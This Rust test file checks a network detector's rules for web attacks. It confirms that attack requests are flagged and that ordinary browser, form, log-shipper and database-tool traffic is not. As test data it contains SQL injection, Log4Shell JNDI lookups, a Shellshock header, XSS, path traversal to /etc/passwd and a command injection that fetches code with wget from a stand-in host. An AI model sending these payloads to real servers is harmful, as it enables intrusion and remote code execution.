//! Do requests of attackers fire, and those of browsers not?

use super::super::testing::{Bench, inside, outside, record};
use super::*;

fn get(n: u64, seconds: f64, uri: &str, status: u16) -> RecordFact {
    request(n, seconds, HttpTransaction { status_code: Some(status), ..asked(uri) })
}

fn asked(uri: &str) -> HttpTransaction {
    HttpTransaction {
        method: Some("GET".into()),
        uri: Some(uri.into()),
        host: Some("shop.example".into()),
        user_agent: Some("Mozilla/5.0 (X11; Linux x86_64)".into()),
        ..HttpTransaction::default()
    }
}

fn request(n: u64, seconds: f64, tx: HttpTransaction) -> RecordFact {
    record(n, seconds, outside(6), inside(1), 80, tx)
}

#[test]
fn many_requests_are_one_row_with_examples() {
    let all = (0..9).map(|n| get(n, n as f64, &format!("/i?id={n}%27+UNION+SELECT+user()%23"), 200));
    let found = Bench::new(&META).records(all).end();
    let [a] = &found[..] else { panic!("{found:?}") };
    assert_eq!((a.kind.name, a.severity.name(), a.count), ("web_attack", "medium", 9));
    assert_eq!(a.title, "203.0.113.6 sends 9 requests with SQL injection to 10.0.0.1:80 (shop.example)");
    assert!(a.details["examples"][0].as_str().unwrap().contains("0' union select user()"), "{:?}", a.details);
    assert_eq!(a.direction.as_deref(), Some("inbound"));
}

#[test]
fn log4shell_is_found_wherever_it_hides() {
    let hidden = "${${lower:j}ndi:ldap://203.0.113.6:1389/a}";
    let mut agent = asked("/");
    agent.user_agent = Some(hidden.into());
    let mut header = asked("/");
    header.odd_headers.push(("x-api-version".into(), hidden.into()));
    let mut body = asked("/login");
    body.request.head = format!("user={hidden}&x=1").into_bytes();
    let target = asked("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D");
    for tx in [agent, header, body, target] {
        let found = Bench::new(&META).records([request(1, 0.0, tx)]).end();
        assert!(found.len() == 1 && found[0].kind.name == "exploit_attempt", "{found:?}");
        assert!(found[0].title.contains("Log4Shell") && found[0].severity.name() == "high");
    }
}

#[test]
fn shellshock_is_found_in_a_header() {
    let mut tx = asked("/cgi-bin/status");
    tx.user_agent = Some("() { :;}; /bin/ping -c 3 10.0.0.9".into());
    assert_eq!(Bench::new(&META).records([request(1, 0.0, tx)]).kinds(), ["exploit_attempt"]);
}

#[test]
fn a_tool_is_known_by_its_name() {
    let mut tx = asked("/");
    tx.user_agent = Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)".into());
    let found = Bench::new(&META).records([request(1, 0.0, tx)]).end();
    assert!(found[0].title.contains("the attack tool Nikto"), "{found:?}");
}

#[test]
fn a_list_of_paths_is_found_and_a_broken_page_is_not() {
    let list = |n: u64| (0..n).map(|i| get(i, i as f64 / 4.0, &format!("/dir{i}?x={i}"), 404));
    let found = Bench::new(&META).records(list(200)).end();
    assert!(found.len() == 1 && found[0].reasons[0].value >= 40.0, "{found:?}");
    assert!(Bench::new(&META).records(list(39)).end().is_empty());
    let same = (0..200).map(|i| get(i, i as f64 / 4.0, &format!("/favicon.ico?{i}"), 404));
    assert!(Bench::new(&META).records(same).end().is_empty());
    let slow = (0..200).map(|i| get(i, i as f64 * 5.0, &format!("/dir{i}"), 404));
    assert!(Bench::new(&META).records(slow).end().is_empty());
    // A build tool asks several stores for packages, a map has holes.
    let stores =
        (0..600).map(|i| get(i, i as f64 / 8.0, &format!("/maven/{i}"), if i % 3 == 0 { 404 } else { 200 }));
    assert!(Bench::new(&META).records(stores).end().is_empty());
}

#[test]
fn an_honest_form_is_silent() {
    let mut tx = asked("/comment?id=it%27s");
    tx.request.head =
        b"text=I+don%27t+know+%3Cb%3Ewhy%3C%2Fb%3E+50%25+and+more%3B+sleep+well&mail=a%40b.c".to_vec();
    tx.odd_headers.push(("cookie".into(), "a=%7B%22x%22%3A1%7D; b='q'; c=1|2".into()));
    assert!(Bench::new(&META).records([request(1, 0.0, tx)]).end().is_empty());
}

#[test]
fn a_crowd_of_attackers_stays_inside_the_cap() {
    let mut bench = Bench::new(&META);
    bench.records((0..MAX_ATTACKS as u32 * 2).map(|n| {
        let [_, _, a, b] = n.to_be_bytes();
        record(n.into(), 0.0, Ip::v4([100, 64, a, b]), inside(1), 80, asked("/?f=../../../etc/passwd"))
    }));
    assert!(bench.detector.evicted() > 0);
    assert_eq!(bench.end().len(), 512, "as many as one detector may have open");
}

#[test]
fn header_fields_carry_attacks_too() {
    let with = |name: &str, value: &str| {
        let mut tx = asked("/");
        match name {
            "user-agent" => tx.user_agent = Some(value.into()),
            "referer" => tx.referrer = Some(value.into()),
            "x-forwarded-for" => tx.x_forwarded_for = Some(value.into()),
            _ => tx.odd_headers.push((name.into(), value.into())),
        }
        Bench::new(&META).records([request(1, 0.0, tx)]).kinds()
    };
    assert_eq!(with("user-agent", "<script>alert(1)</script>"), ["web_attack"]);
    assert_eq!(with("x-forwarded-for", "1' or 1=1#"), ["web_attack"]);
    assert_eq!(with("cookie", "SESSID=/../../../var/www/x.txt"), ["web_attack"]);
    assert_eq!(with("soapaction", "GetDeviceSettings/`cd /tmp && wget http://a.example/x`"), ["web_attack"]);
    assert_eq!(with("accept-encoding", "doar-e, ftw, imo, ,"), ["exploit_attempt"]);
    assert_eq!(with("cookie", "X-BEResource=localhost~1942062522"), ["exploit_attempt"]);
    for (name, value) in [
        ("user-agent", "Mozilla/5.0 (Linux; U; Android 4.0; id; O'Neill \"x\")"),
        ("referer", "http://search.example/?q=l%27or+et+l%27argent;+ls"),
        ("cookie", "a=1; id=2; cat=/home; pref={'a':1}|{'b':2}"),
        ("x-trace", "a|b|c;d='e'"),
    ] {
        assert!(with(name, value).is_empty(), "{name}: {value}");
    }
}

#[test]
fn what_shippers_of_logs_and_tools_of_databases_send_is_none() {
    let post = |uri: &str, body: &str| {
        let mut tx = asked(uri);
        tx.method = Some("POST".into());
        tx.request.head = body.as_bytes().to_vec();
        Bench::new(&META).records([request(1, 0.0, tx)]).kinds()
    };
    let line = "{\"line\":\"GET /i?id=1 union select 1,2 HTTP/1.1\"}";
    assert!(post("/loki/api/v1/push", line).is_empty());
    assert_eq!(post("/i", line), ["web_attack"]);
    assert!(post("/pma/import.php", "sql_query=SELECT+1+UNION+SELECT+2").is_empty());
}
